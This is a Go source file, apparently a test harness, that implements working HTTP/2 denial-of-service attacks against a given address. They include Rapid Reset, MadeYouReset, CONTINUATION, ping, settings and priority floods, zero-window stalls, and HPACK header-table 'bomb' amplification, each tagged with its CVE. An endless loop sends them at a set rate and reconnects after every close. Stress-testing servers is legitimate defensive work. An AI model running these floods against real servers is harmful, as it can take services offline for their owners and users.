package main

import (
	"bytes"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attack is what an attacker sends. Its functions write frames, mostly of a stream with the number id.
type attack struct {
	settings []http2.Setting
	before   func(f *http2.Framer, id uint32) // first on each connection, if it is not nil. id is 1
	each     func(f *http2.Framer, id uint32) // again and again, if it is not nil. id is that of a new stream, from 3 on
	once     bool                             // each connection has one burst, and is closed
}

// names are those of the attacks, and of connects: connections with a request each.
var names = strings.Split("connects,resets,faults,continuations,settings,pings,windows,priority,empty,tiny,dribble,stalled,bomb,"+
	"references,crumbs", ",")

// attacks are by name. The first three are none, and the last three forms of the HTTP/2 Bomb of 2026: 64 KiB of fields for each
// 60 bytes, and 10,000 fields in each head.
var attacks = map[string]attack{
	"nothing":  {},
	"gets":     {each: request("/small")},
	"connects": {each: request("/small"), once: true},
	"resets": {each: func(f *http2.Framer, id uint32) { // Rapid Reset, CVE-2023-44487
		request("/wait")(f, id)
		_ = f.WriteRSTStream(id, http2.ErrCodeCancel)
	}},
	"faults": {each: func(f *http2.Framer, id uint32) { // MadeYouReset, CVE-2025-8671
		request("/wait")(f, id)
		_ = f.WriteRawFrame(http2.FrameWindowUpdate, 0, id, make([]byte, 4))
	}},
	"continuations": {before: zeros(http2.FrameHeaders, 1, 0), each: zeros(http2.FrameContinuation, 1, 0)}, // CVE-2024-27316
	"settings":      {each: zeros(http2.FrameSettings, 0, 0)},                                              // CVE-2019-9515
	"pings":         {each: zeros(http2.FramePing, 0, 8)},                                                  // CVE-2019-9512
	"priority":      {each: zeros(http2.FramePriority, 1, 5)},                                              // CVE-2019-9513
	"windows":       {each: func(f *http2.Framer, _ uint32) { _ = f.WriteWindowUpdate(0, 1) }},
	"empty":         {before: post, each: zeros(http2.FrameData, 1, 0)}, // CVE-2019-9518
	"tiny":          {before: post, each: zeros(http2.FrameData, 1, 1)},
	"dribble": {settings: closed, before: request("/large"), each: func(f *http2.Framer, _ uint32) { // CVE-2019-9511
		_ = f.WriteWindowUpdate(1, 1)
		_ = f.WriteWindowUpdate(0, 1)
	}},
	"stalled": {settings: closed, before: func(f *http2.Framer, _ uint32) { // 100 answers of 1 MiB for which there is never a window
		for id := range uint32(100) {
			request("/large")(f, 2*id+1)
		}
	}},
	"bomb":       bomb("a", 4000, 20),
	"references": bomb("a", 0, 10_000),
	"crumbs":     bomb("cookie", 1, 10_000),
}

var closed = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}

// fields are those of a request but for its method and its path, in a block without a table (RFC 7541 6.2.2).
const fields = "\x86\x01\x01a"

func block(method byte, path string) []byte {
	return append([]byte{method}, fields+"\x04"+string(rune(len(path)))+path...)
}

const methodGet, methodPost = 0x82, 0x83

func request(path string) func(*http2.Framer, uint32) { return headers(block(methodGet, path)) }

// headers is a request without a body.
func headers(block []byte) func(*http2.Framer, uint32) {
	return func(f *http2.Framer, id uint32) {
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
	}
}

func post(f *http2.Framer, id uint32) {
	_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block(methodPost, "/discard"), EndHeaders: true})
}

// zeros is a frame without flags, with n zeros.
func zeros(t http2.FrameType, stream uint32, n int) func(*http2.Framer, uint32) {
	return func(f *http2.Framer, _ uint32) { _ = f.WriteRawFrame(t, 0, stream, make([]byte, n)) }
}

// bomb puts a field into the table, and sends requests whose heads have references to it, of one byte each.
func bomb(name string, value, references int) attack {
	var field bytes.Buffer
	field.Write(block(methodGet, "/small"))
	_ = hpack.NewEncoder(&field).WriteField(hpack.HeaderField{Name: name, Value: strings.Repeat("v", value)}) // a Buffer takes it
	return attack{
		settings: closed,
		before:   headers(field.Bytes()),
		each:     headers(append(block(methodGet, "/small"), strings.Repeat("\xbe", references)...)),
	}
}

// begin sends what a connection begins with, and a large window for all streams.
func begin(c net.Conn, settings ...http2.Setting) {
	var out bytes.Buffer
	out.WriteString(http2.ClientPreface)
	f := http2.NewFramer(&out, nil)
	_ = f.WriteSettings(settings...)
	_ = f.WriteWindowUpdate(0, 1<<30)
	_, _ = c.Write(out.Bytes()) // a connection that is closed is seen when it is read from
}

// burst is how many bytes an attacker sends at a time. A shorter one, as on a new connection, counts as many.
const burst = 4 << 10

// run attacks for ever, by rate bytes a second, with a connection that is made anew when it is closed.
func (a attack) run(addr string, rate int) {
	var out bytes.Buffer
	f := http2.NewFramer(&out, nil)
	f.AllowIllegalWrites = true
	next := time.Now()
	for {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			time.Sleep(time.Millisecond)
			continue
		}
		_ = c.(*net.TCPConn).SetLinger(0) // ports need not wait
		begin(c, a.settings...)
		go func() {
			_, _ = io.Copy(io.Discard, c)
			c.Close() // so the next Write fails
		}()
		if out.Reset(); a.before != nil {
			a.before(f, 1)
		}
		for id := uint32(3); err == nil; {
			for more := a.each != nil; more; id += 2 {
				a.each(f, id)
				more = !a.once && out.Len() < burst
			}
			_, err = c.Write(out.Bytes())
			next = next.Add(time.Duration(max(out.Len(), burst)) * time.Second / time.Duration(rate))
			out.Reset()
			if time.Sleep(max(time.Millisecond, time.Until(next))); a.once {
				break
			}
		}
		c.Close()
	}
}
